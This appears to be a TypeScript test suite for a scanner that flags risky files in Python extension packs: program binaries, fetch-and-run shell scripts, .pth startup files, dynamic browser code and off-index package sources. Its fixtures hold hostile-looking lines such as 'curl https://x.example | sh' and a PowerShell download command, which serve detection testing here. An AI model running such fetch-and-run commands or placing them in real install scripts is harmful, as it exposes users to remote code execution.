import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { type Files, inspectPack } from '../test/make-pack.ts';

async function notesOn(files: Files): Promise<readonly string[]> {
  const { verdict, notes } = await inspectPack({ '__init__.py': 'NODE_CLASS_MAPPINGS = {}\n', ...files });
  assert.equal(verdict, 'clean');
  return notes;
}

describe('files that are neither Python nor machine code', () => {
  const noted: readonly [what: string, file: string, content: string, note: RegExp][] = [
    ['have the name of a program', 'bin/a.exe', 'MZ', /"bin\/a\.exe" has the name of a program/],
    ['have the name of a library', 'lib/a.so.1', '', /"lib\/a\.so\.1" has the name of a program/],
    [
      'download and run',
      'install.sh',
      'curl https://x.example | sh\n',
      /"install\.sh" is a script that down/,
    ],
    ['download', 'setup.bat', 'powershell Invoke-WebRequest x\r\n', /"setup\.bat" is a script that down/],
    ['are run when Python starts', 'x.pth', 'import os\n', /"x\.pth" has lines that Python runs/],
    ['make code in browsers', 'web/a.js', 'new Function(text)()', /"web\/a\.js" is a script for browsers/],
    ['load code into browsers', 'web/a.js', 'import("https://x.example/a.js")', /a script for browsers/],
    ['name another index', 'requirements.txt', 'a\n--index-url http://x\n', /from another index/],
    ['name an address', 'requirements.txt', 'a\nb @ https://x.example/b.whl\n', /from addresses/],
    ['name a repository', 'sub/requirements-dev.txt', 'git+https://x.example/b\n', /from addresses/],
  ];
  for (const [what, file, content, note] of noted) {
    it(`are noted when they ${what}`, async () => {
      const notes = await notesOn({ [file]: content });
      assert.equal(notes.length, 1);
      assert.match(notes[0] ?? '', note);
    });
  }

  it('are not noted otherwise', async () => {
    const files = {
      'run.sh': 'python main.py\n',
      'weights.pth': Buffer.alloc(200),
      'requirements.txt': 'numpy>=1.26\nopencv-python ; sys_platform == "linux"  # see https://x.example\n',
      'web/a.js': 'import { app } from "../../scripts/app.js";\nnode.eval(x);\nmedieval(1);\n',
      'README.md': 'curl https://x.example | sh\n',
    };
    assert.deepEqual(await notesOn(files), []);
  });
});
